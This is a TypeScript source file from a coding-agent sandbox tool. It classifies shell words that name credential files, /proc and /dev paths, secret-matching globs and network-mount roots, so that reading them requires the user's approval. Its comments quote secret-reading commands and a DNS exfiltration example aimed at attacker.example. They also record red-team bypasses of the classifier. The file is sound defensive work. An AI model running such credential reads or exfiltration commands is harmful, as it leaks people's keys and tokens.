/**
 * Words that name a secret: a known-safe read runs bare under `danger-full-access` (and on a host
 * without a sandbox), where the sandbox's hidden-path masks (sandbox/hiddenPaths.ts) do not apply,
 * so `cat ~/.ssh/id_ed25519`, `head /proc/self/environ` or `rg -uuu token /` would print the
 * person's credentials into the agent's context without anyone being asked. The classifier is pure
 * and knows neither $HOME nor which files exist, so this reads names, not files: a word is a secret
 * when its path segments contain a credential location from the documented list (anywhere, so
 * `/home/u/.ssh`, `~/.ssh`, `-f~/.ssh/x` and `../.ssh` all match), a private-key file name, a
 * system secret (`/etc/shadow`), or anything under `/proc` or `/dev` (process environments and
 * memory, raw disks). A glob segment is a secret when it could match such a name. Fails closed:
 * `grep .ssh notes.md` asks too. Pure.
 */

/** Credential locations as segment sequences (sandbox/hiddenPaths.ts DEFAULT_HIDDEN_IN_HOME, plus system ones). */
const SECRET_SEQUENCES: readonly (readonly string[])[] = [
  '.ssh', '.gnupg', '.password-store', '.local/share/keyrings', '.config/op', '.vault-token',
  '.git-credentials', '.config/git/credentials', '.config/gh', '.config/hub', '.config/glab-cli', '.netrc',
  '.npmrc', '.yarnrc.yml', '.pypirc', '.cargo/credentials', '.cargo/credentials.toml', '.gem/credentials',
  '.m2/settings.xml', '.m2/settings-security.xml', '.gradle/gradle.properties', '.nuget/NuGet/NuGet.Config',
  '.composer/auth.json', '.config/composer/auth.json', '.docker/config.json', '.kube', '.config/helm',
  '.aws', '.config/gcloud', '.azure', '.oci', '.aliyun', '.config/doctl', '.config/hcloud', '.fly',
  '.terraform.d/credentials.tfrc.json', '.config/rclone', '.s3cfg', '.boto', '.pgpass', '.pg_service.conf',
  '.my.cnf', '.claude/.credentials.json', '.claude.json', '.codex/auth.json', '.gemini/oauth_creds.json',
  '.config/github-copilot', '.config/containers/auth.json', '.mozilla',
  '.config/google-chrome', '.config/chromium', '.config/BraveSoftware', '.config/microsoft-edge',
  '.config/vivaldi', 'snap/firefox', 'snap/chromium', 'Library/Application Support/Google/Chrome',
  'Library/Application Support/Firefox', 'Library/Keychains', '.bash_history', '.zsh_history',
  '.local/share/fish/fish_history', '.python_history', '.psql_history', '.mysql_history',
  // warden's own store, rules and config (sandbox/hiddenPaths.ts wardenOwnPaths): other sessions' commands and outputs
  '.local/state/warden', '.config/warden',
  // system secrets
  'etc/shadow', 'etc/gshadow', 'etc/shadow-', 'etc/gshadow-', 'etc/sudoers', 'etc/sudoers.d', 'etc/ssl/private',
  'etc/security/opasswd', 'run/secrets', 'var/run/secrets', 'etc/ssh', 'etc/krb5.keytab',
  // redclass: the BSD/macOS shadow file, saved Wi-Fi and VPN keys, PPP secrets, Terraform's token file
  'etc/master.passwd', 'etc/spwd.db', 'etc/NetworkManager/system-connections', 'etc/wpa_supplicant', 'etc/ppp/chap-secrets',
  'etc/ppp/pap-secrets', '.terraformrc',
  // rt-classifier: a cluster's admin kubeconfig and PKI, the kubelet's client keys, TLS keys
  'etc/kubernetes', 'etc/rancher', 'var/lib/kubelet', 'var/lib/rancher', 'etc/letsencrypt',
  // rt-classifier: VPN and tunnel keys, service passwords kept in /etc, a CI runner's tokens, macOS cookies
  'etc/wireguard', 'etc/ipsec.secrets', 'etc/ipsec.d/private', 'etc/openvpn', 'etc/mysql/debian.cnf', 'etc/postfix/sasl_passwd',
  'etc/gitlab-runner', 'etc/ldap.secret', 'etc/pam_ldap.secret', 'etc/samba/smbpasswd', 'var/lib/samba/private', 'etc/docker/key.json',
  // containers' configs hold every environment variable they were started with; podman's runtime registry auth
  'var/lib/docker/containers', 'run/containers', 'var/lib/containers/storage/overlay-containers',
  // a checkout's own config: actions/checkout persists the job's token there (http.<url>.extraheader), and remote URLs carry tokens
  '.git/config',
  'Library/Cookies', 'Library/Application Support/Slack', 'Library/Application Support/discord', 'Library/Application Support/1Password',
].map((s) => s.split('/'));

/**
 * File names that hold keys or tokens wherever they are (`cat deploy/id_rsa`, `cat .env`). Names
 * and segments match in any case: macOS and Windows file systems ignore it (`~/.SSH/ID_RSA` is
 * the key there), and elsewhere asking costs one prompt.
 */
const SECRET_NAMES: readonly RegExp[] = [
  /^id_(rsa|dsa|ecdsa|ed25519|xmss)(_sk)?$/i, // ssh private keys (the .pub half is public)
  /\.(pem|key|p12|pfx|jks|keystore|kdbx|gpg|asc|ppk)$/i, // private keys, keystores, password databases
  /^\.env(rc)?([.~_-].*)?$/i, // dotenv files hold API keys (direnv's .envrc exports them); .env.example is asked about too (fail closed)
  // redclass: a dotenv under another name (prod.env, an editor's .env~), the secrets files
  // frameworks and clouds write (secrets.yml, client_secret_*.json, service-account keys)
  /[^/]\.env$/i,
  /^\.?secrets?(\.(ya?ml|json|toml|env|txt|ini|conf))?$/i,
  /^client_secret.*\.json$/i,
  /^service[-_]?account.*\.json$/i,
  /^\.?credentials(\.(json|toml|ya?ml|ini|xml|db|csv|txt|conf|cfg|tfrc\.json))?$/i, // (credentials.ts is source, not a secret)
  /^environ$/i, // /proc/<pid>/environ reached through `cd /proc/self` or `..`
  /^(secring|trustdb|pubring)\.(gpg|kbx)$/i,
  /^\.htpasswd$/i,
  /^kubeconfig$/i,
  // redclass: histories and editor state hold typed tokens; Kerberos ticket caches and X11 cookies
  // are credentials; Terraform state holds every secret a plan read
  /^\.(.+_history|zhistory|histfile|lesshst|viminfo)$/i,
  /^krb5cc_[a-z0-9_-]*$/i,
  /^\.(X|ICE)authority$/i,
  /\.tfstate(\.backup)?$/i,
  // rt-classifier: token, API-key and vault-password files by their own names (`token.txt`,
  // Google's `token.json`, `.api_key`, `.access_token`), and Terraform variables, which hold the
  // providers' secrets (`terraform.tfvars`, `*.auto.tfvars.json`); not `token.ts` or `tokens.md`,
  // and not a bare `token` or `api_key`, which are what `rg token src` searches for
  /^(\.[a-z_-]*token|([a-z]+[-_])?token\.(txt|json|ya?ml|toml|env|conf|cfg|ini))$/i,
  /^(\.api[-_]?keys?|api[-_]?keys?\.(txt|json|ya?ml|toml|env|conf|cfg|ini))$/i,
  /^\.?vault[-_]?pass(word)?(\.txt)?$/i,
  /\.tfvars(\.json)?$/i,
  // rt-classifier: credentials files under a project's own prefix (gcp-credentials.json), Firebase
  // admin keys, WordPress's database password
  /[-_]credentials?\.(json|ya?ml|toml|ini|txt)$/i,
  /firebase-adminsdk.*\.json$/i,
  /^wp-config\.php$/i,
];

/** Representative names a glob segment is tested against (a glob matching any of them could reach a secret). */
const PROBE_NAMES: readonly string[] = [
  ...new Set(SECRET_SEQUENCES.flatMap((s) => s)),
  'id_rsa', 'id_ed25519', 'id_ecdsa', 'x.pem', 'x.key', 'x.p12', '.env', '.env.local', '.envrc', 'credentials', 'environ', 'shadow', 'proc', 'dev',
  '.zhistory', '.node_repl_history', 'krb5cc_0', '.Xauthority', 'x.tfstate',
  // redclass: one name for each SECRET_NAMES pattern, so a glob is tested against every kind
  // (`cat keys/*.asc`, `cat *.kdbx`, `cat ~/.h*` read an armored key, a password database, a history)
  'id_dsa', 'id_ed25519_sk', 'id_ecdsa_sk', 'x.pfx', 'x.jks', 'x.keystore', 'x.kdbx', 'x.gpg', 'x.asc', 'x.ppk', '.credentials.json',
  'secring.gpg', 'pubring.kbx', '.htpasswd', 'kubeconfig', '.histfile', '.sh_history', '.lesshst', '.viminfo', '.ICEauthority',
  'x.tfstate.backup', '.env.production', '.env~', 'prod.env', 'secrets.yml', '.secrets', 'client_secret_x.json', 'service-account.json',
  'x-credentials.json', 'x-firebase-adminsdk-x.json', 'wp-config.php', 'token.txt', '.token', 'token.json', 'access_token.json', '.api_key', 'apikey.txt', '.vault_pass', 'vault_pass.txt', 'x.tfvars', 'x.auto.tfvars.json',
];

/**
 * Derived tables, each built on first use and then kept (fixed: derived once, not per glob): only a
 * glob needs them, and building them at load cost every start-up ~4 ms (exec, every hook call).
 */
const lazily = <T>(build: () => T): (() => T) => {
  let value: T | undefined;
  return () => (value ??= build());
};

/** The probe names that are secret names themselves. */
const secretProbes = lazily((): readonly string[] => PROBE_NAMES.filter((n) => SECRET_NAMES.some((r) => r.test(n))));

const GLOB = /[*?[]/;

/** A glob segment as a regex, bash rules: `*` and `?` never match a leading dot; `[..]` is any one character (conservative). */
function globRegex(segment: string): RegExp {
  return globAsRegex(segment, '[^/]');
}

/**
 * A glob as a case-insensitive regex: `?` and a `[..]` class stand for one `one` (any character
 * for a class: conservative), `*` for any run of them. The one translation bash's and git's globs share.
 */
function globAsRegex(pattern: string, one: string): RegExp {
  let out = '';
  for (let i = 0; i < pattern.length; i++) {
    const c = pattern[i]!;
    if (c === '*') out += `${one}*`;
    else if (c === '?') out += one;
    else if (c === '[') {
      const close = pattern.indexOf(']', i + 2);
      if (close < 0) out += '\\[';
      else {
        out += one;
        i = close;
      }
    } else out += c.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  }
  return new RegExp(`^${out}$`, 'i');
}

/** Can this path segment (a glob by bash's rules, or literal) name `name`? Any case (see SECRET_NAMES). */
export function segmentMatches(segment: string, name: string): boolean {
  return segmentMatcher(segment)(name);
}

/** segmentMatches for one segment against many names: its glob compiled once. */
function segmentMatcher(segment: string): (name: string) => boolean {
  if (!GLOB.test(segment)) {
    const lower = segment.toLowerCase();
    return (name) => lower === name.toLowerCase();
  }
  const glob = globRegex(segment);
  // bash: a wildcard never matches a leading dot (dotglob is off), so `*` cannot reach `.ssh`
  const dotted = segment.startsWith('.');
  return (name) => (dotted || !name.startsWith('.')) && glob.test(name);
}

/** Is this segment a secret's name, or a glob that could be one? `last`: the path's final segment (a file, not a directory on the way). */
function nameIsSecret(segment: string, last: boolean): boolean {
  if (!GLOB.test(segment)) return SECRET_NAMES.some((r) => r.test(segment));
  if (secretProbes().some(segmentMatcher(segment))) return true;
  // a probe name cannot stand for the glob's own text: `*erver.key` matches server.key, which no
  // probe spells (redclass), so the glob's wildcards are filled in too (never with a leading dot,
  // which bash's wildcards do not match); a `*` is tried as every piece of a secret name only in
  // the final segment, where the file's name is
  const names = globFillings(segment, last);
  return names === null || names.some((name) => !name.includes('/') && !(name.startsWith('.') && !segment.startsWith('.')) && SECRET_NAMES.some((r) => r.test(name)));
}

/** What a one-character wildcard is tried as: the characters secret names are made of. */
const ONE_CHARACTER = [...'abcdefghijklmnopqrstuvwxyz0123456789._-'];

/** What a `*` is tried as: nothing, a filler, a dot, and every piece of a secret name (`server.k*` is server.key). */
const starPieces = lazily((): readonly string[] => {
  const pieces = new Set<string>(['', 'x', '.', 'x/.']);
  for (const name of secretProbes()) {
    for (let i = 0; i < name.length; i++) for (let j = i + 1; j <= name.length; j++) pieces.add(name.slice(i, j));
  }
  return [...pieces];
});

/** Past this many names a glob stands for, it counts as naming a secret (fail closed). */
const MAX_FILLINGS = 20_000;

/**
 * Names a glob stands for, its wildcards filled in: `?` and a bracket with each character a
 * secret name could have there, `*` with nothing, a filler or a piece of a secret name (the
 * pieces only for a glob's one wildcard, before its literal tail). Null when the glob
 * stands for more names than warden tries. Pure.
 */
function globFillings(glob: string, pieces: boolean): string[] | null {
  const parts = glob.split(/(\[[^\]]+\]|[*?])/).filter((p) => p !== '');
  const wildcards = parts.filter((p) => p === '*' || p === '?' || (p.startsWith('[') && p.endsWith(']') && p.length > 2)).length;
  let out = [''];
  for (const [k, part] of parts.entries()) {
    let choices: readonly string[];
    if (part === '?') choices = ONE_CHARACTER;
    // (not a trailing `*`: `README*` would be README.pem, and every `ls test*` would ask)
    else if (part === '*') choices = pieces && wildcards === 1 && k < parts.length - 1 ? starPieces() : ['', 'x', '.', 'x/.'];
    else if (part.startsWith('[') && part.endsWith(']') && part.length > 2) {
      const inner = part.slice(1, -1);
      choices = /^[!^]|.-./.test(inner) ? ONE_CHARACTER : [...new Set(inner)];
    } else choices = [part];
    if (out.length * choices.length > MAX_FILLINGS) return null;
    out = out.flatMap((prefix) => choices.map((c) => prefix + c));
  }
  return out;
}

/** The secret a path-like text names, or null. `text` may be a whole word (`-f/etc/shadow`, `--x=~/.aws`). */
export function secretIn(text: string): string | null {
  const segments = text.split('/').filter((s) => s !== '' && s !== '.');
  // /proc and /dev: process environments and memory, raw disks and terminals (bar /dev/null)
  const absolute = text.replace(/^[^/]*?(?=\/)/, '');
  if (/^\/+(proc|dev)(\/|$)/i.test(absolute) && !/^\/+dev\/+null$/.test(absolute)) return absolute;
  // spelled with `.` or `..` (redteam3: `/./dev/sda`, `/etc/default/../shadow`): read the segments
  // as the kernel would without symlinks too; and since a symlinked segment before a `..` moves it
  // anywhere (`/var/run/../dev` is /dev), `proc` or `dev` after a `..` counts wherever it is
  const up = segments.indexOf('..');
  if (up >= 0 && segments.slice(up + 1).some(mayBeProcOrDev)) return text;
  const lexical = lexicalSegments(segments);
  if (absolute.startsWith('/')) {
    // (`src/pro?` is relative: only an option or `NAME=` prefix is stripped for the glob reading)
    const prefix = text.slice(0, text.length - absolute.length);
    const rooted = operandPrefix(prefix);
    const normalSegments = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'));
    const normal = `/${normalSegments.join('/')}`;
    // redclass: a glob for the first segment (`/pro?/self/mem`, `/d?v/sda`, `/*/self/fd/0`) reaches them too
    if (/^\/(proc|dev)(\/|$)/i.test(normal) && normal !== '/dev/null') return normal;
    if (rooted && normalSegments[0] !== undefined && mayBeProcOrDev(normalSegments[0]) && normal !== '/dev/null') return normal;
  }
  return secretInSegments(segments) ?? (up >= 0 ? secretInSegments(lexical) : null) ?? homeDotEntry(text, absolute, lexical, segments);
}

/**
 * A dot-entry directly in a home directory: `~/.cache/huggingface/token`, `/home/u/.databrickscfg`,
 * `~root/.vault_pass`, `/Users/u/.wrangler/...`, `/root/.x`, or `../.x` (the workspace's parent is
 * often $HOME). Every tool keeps its credentials in a dotfile or dot-directory of the home, under
 * a name no list keeps up with (rt-classifier: a dozen token files were known-safe reads), so
 * the whole of a home's hidden part is a secret; a workspace's own dotfiles (`.github`, deeper
 * than the home) are not. A leading `[` may stand for the dot (`~/[.]npmrc`). Pure.
 */
function homeDotEntry(text: string, absolute: string, lexical: readonly string[], segments: readonly string[]): string | null {
  const dotted = (segment: string | undefined) => segment !== undefined && segment !== '..' && (segment.startsWith('.') || segment.startsWith('['));
  // `~/.x`, `~user/.x`, and after an option or `NAME=` prefix (`-f~/.x`, `--file=~/.x`)
  const tilde = /(^|[=:]|^-[^/]*)~[^/]*$/.test(segments[0] ?? '');
  if (tilde && dotted(lexical[1])) return `${lexical[0]}/${lexical[1]}`;
  let parts: string[];
  if (tilde) {
    // the tilde is a home, /home/USER: `~/../u/.x` is another home's dot-entry, `~/../../root/.x` root's
    parts = lexicalSegments(['home', 'user', ...segments.slice(1)]);
  } else if (lexical[0] === '..') {
    // a relative path climbing out of the workspace straight into a dot-entry (`../.netrc`, `../../.x`)
    const first = lexical.findIndex((s) => s !== '..');
    if (first > 0 && dotted(lexical[first])) return lexical.slice(0, first + 1).join('/');
    // ... or up to the root and down into a home (`../../../home/u/.x`): read from where it lands
    parts = first < 0 ? [] : lexical.slice(first);
  } else {
    // an absolute path, bare or after an option or `NAME=` prefix (`-f/root/.x`); not `src/home/u/.x`
    const prefix = text.slice(0, text.length - absolute.length);
    if (!absolute.startsWith('/') || !operandPrefix(prefix)) return null;
    parts = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'));
  }
  // (the home's own segments may be globs too: `/?ome/u/.x`, `/r[o]ot/.x`)
  if (parts[0] !== undefined && segmentMatches(parts[0], 'root') && dotted(parts[1])) return `/${parts[0]}/${parts[1]}`;
  // /home/u, /Users/u, /var/home/u, /mnt/c/Users/u, /export/home/u: a `home` or `Users` segment, then the user
  for (let i = 0; i + 2 < parts.length; i++) {
    if ((segmentMatches(parts[i]!, 'home') || segmentMatches(parts[i]!, 'users')) && dotted(parts[i + 2])) return `/${parts.slice(0, i + 3).join('/')}`;
  }
  return null;
}

/**
 * Roots where opening a path makes the system reach another host: the automounter's `-hosts` map
 * (`/net/HOST/...`, on by default on macOS, common with autofs on Linux), macOS's `/Network`, AFS
 * cells, and a `//HOST/share` UNC path where the platform reads one. The mount is made by a
 * system daemon, outside any sandbox of the command, so `ls /net/DATA.attacker.example` sends
 * DATA out in a DNS query and an NFS mount request (rt-classifier). The root itself may be a glob
 * (`/n?t/x`). Returns the root named, or null. Pure.
 */
export function networkMountIn(text: string): string | null {
  const at = text.indexOf('/');
  if (at < 0) return null;
  const prefix = text.slice(0, at);
  // an operand, or the value of an option or `NAME=` (`--file=/net/x`); not `src/net/x`
  if (!operandPrefix(prefix)) return null;
  const absolute = text.slice(at);
  if (/^\/\/[^/]/.test(absolute)) return absolute;
  const first = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'))[0];
  if (first === undefined) return null;
  for (const root of ['net', 'Network', 'afs']) if (segmentMatches(first, root)) return `/${first}`;
  return null;
}

/**
 * Is this the text before a path's first `/` that still leaves the word a path operand: nothing,
 * an option (`-f/x`, `--file=/x`) or an assignment (`NAME=/x`); not a relative path's first
 * segments (`src/proc`). Pure.
 */
function operandPrefix(prefix: string): boolean {
  return prefix === '' || prefix.startsWith('-') || prefix.includes('=');
}

/** A path segment that is, or as a glob could match, `proc` or `dev`. */
function mayBeProcOrDev(segment: string): boolean {
  return segmentMatches(segment, 'proc') || segmentMatches(segment, 'dev');
}

/** Segments with each `..` taking away the one before it (a leading `..` is kept). */
function lexicalSegments(segments: readonly string[]): string[] {
  const out: string[] = [];
  for (const s of segments) {
    if (s === '..' && out.length > 0 && out[out.length - 1] !== '..') out.pop();
    else out.push(s);
  }
  return out;
}

function secretInSegments(segments: readonly string[]): string | null {
  for (let i = 0; i < segments.length; i++) {
    for (const seq of SECRET_SEQUENCES) {
      if (i + seq.length > segments.length) continue;
      // the first segment may carry an attached option or `~` prefix: `-f~/.ssh` -> `.ssh` is segment 1
      if (seq.every((s, j) => segmentMatches(segments[i + j]!, s))) return seq.join('/');
    }
    if (nameIsSecret(segments[i]!, i === segments.length - 1)) return segments[i]!;
  }
  return null;
}

/**
 * Names a repository may hold that a git glob could reach: the secret file names, and the
 * credential files a dotfiles repository commits. (Not `.docker/config.json` and the like:
 * `git diff -- '*.json'` would then ask.)
 */
const gitProbes = lazily((): readonly string[] => [
  ...secretProbes(),
  '.npmrc', '.pypirc', '.netrc', '.git-credentials', '.ssh/config', '.aws/credentials', '.kube/config', '.gnupg/x', '.vault-token',
]);

/**
 * A git pathspec glob as a regex: wildmatch without WM_PATHNAME or WM_PERIOD, so `*` and `?`
 * match a leading dot and `*` crosses `/`; case-insensitive, since `:(icase)` and
 * `--icase-pathspecs` make it so.
 */
function gitGlobRegex(pattern: string): RegExp {
  return globAsRegex(pattern, '.');
}

/**
 * The secret a git word may name (pure). git reads a word as an object name (`REV:PATH`,
 * `:N:PATH` for an index stage, `:/TEXT:PATH`) or a pathspec with magic (`:(top,icase).env`,
 * `:!x`, `:^x`) and wildmatch globs, where `*env` matches `.env` (the shell's rules do not
 * apply: the word reaches git unexpanded). So every text after a colon is read as a path, its
 * magic taken off, with any case, and as a glob against the names a repository may hold: `git
 * show :0:.env`, `git log -p -- '*env'`, `git log -p -- ':(icase).ENV'` printed the dotenv
 * (redclass).
 */
export function secretInGitWord(word: string): string | null {
  const texts = [word];
  for (let i = word.indexOf(':'); i >= 0; i = word.indexOf(':', i + 1)) texts.push(word.slice(i + 1));
  for (const text of texts) {
    const path = text.replace(/^\([^)]*\)/, '').replace(/^[!^]+/, '');
    const found = secretIn(path) ?? secretIn(path.toLowerCase());
    if (found !== null) return found;
    if (!GLOB.test(path)) continue;
    const glob = gitGlobRegex(path);
    // in the literal text's directory, or deeper where a wildcard crosses `/` (`conf*` is config/.env)
    const literal = path.slice(0, path.search(GLOB));
    const directory = literal.slice(0, literal.lastIndexOf('/') + 1);
    const probe = gitProbes().find((p) => glob.test(p) || glob.test(`${directory}${p}`) || glob.test(`${literal}x/${p}`));
    if (probe !== undefined) return probe;
    // the glob's own text, its wildcards filled in (`*erver.key` is certs/server.key; git's may be a leading dot)
    // (no pieces: a git glob's `*` also stands for a leading dot, so `*.ts` would be .env.ts)
    const names = globFillings(path, false);
    if (names === null) return path;
    const filled = names.find((f) => !GLOB.test(f) && (secretIn(f) ?? secretIn(f.toLowerCase())) !== null);
    if (filled !== undefined) return filled;
  }
  return null;
}

/** Joins a relative word onto the directory a script `cd`-ed into (posix, no I/O), so `cd /etc && cat shadow` is `/etc/shadow`. */
export function underDirectory(dir: string | null, word: string): string {
  if (dir === null || word.startsWith('/') || word.startsWith('-')) return word;
  return `${dir.replace(/\/+$/, '')}/${word}`;
}

/**
 * A home directory, or the directory of homes, deeper than two segments: `/var/home/u`
 * (Silverblue), `/mnt/c/Users/u` (WSL's view of the Windows home), `/export/home/u` (redclass:
 * `rg token /mnt/c/Users/u` read .ssh and .aws there).
 */
function isHomeDirectory(parts: readonly string[]): boolean {
  const at = parts.findLastIndex((p) => /^(home|users)$/i.test(p));
  return at >= 0 && at >= parts.length - 2;
}

/**
 * Can a recursive search rooted at this path reach a credential location below it? True when the
 * path ends where a multi-segment location begins: `rg token /home/u/.config` reads
 * .config/gh/hosts.yml, `grep -r x /home/u/.local` the keyrings, `/Users/u/Library` the
 * Keychains (redclass: none of them named a secret, and at three segments none was a broad
 * root). Read only for absolute and `~` paths: a bare relative word may be the search pattern,
 * and the workspace's own `etc` or `snap` holds no system or home secret.
 */
export function mayHoldSecret(word: string): boolean {
  if (!word.startsWith('/') && !word.startsWith('~')) return false;
  const segments = lexicalSegments(word.split('/').filter((s) => s !== '' && s !== '.'));
  for (const seq of SECRET_SEQUENCES) {
    for (let k = 1; k < seq.length && k <= segments.length; k++) {
      const tail = segments.slice(segments.length - k);
      if (tail.every((s, j) => segmentMatches(s, seq[j]!))) return true;
    }
  }
  return false;
}

/**
 * Recursive searches rooted where secrets live: `rg token /`, `grep -r x ~`, `rg -uuu key ..` (the
 * parent of a workspace is often $HOME). Roots: `/`, a `~` word, a path escaping upwards with `..`,
 * or an absolute path of at most two segments (`/home/u`, `/root`, `/etc`).
 */
export function broadSearchRoot(word: string): boolean {
  if (word.startsWith('-')) return false;
  if (word === '~' || word.startsWith('~')) return true;
  const parts = word.split('/').filter((s) => s !== '' && s !== '.');
  let depth = 0;
  for (const p of parts) {
    depth += p === '..' ? -1 : 1;
    if (depth < 0) return true;
  }
  // an absolute path that climbs back with `..` can land anywhere (`/usr/local/bin/../../..` is
  // `/`, and a symlinked segment moves it elsewhere again): redclass found the count fooled by it
  if (word.startsWith('/')) return parts.includes('..') || parts.length <= 2 || isHomeDirectory(parts);
  return false;
}
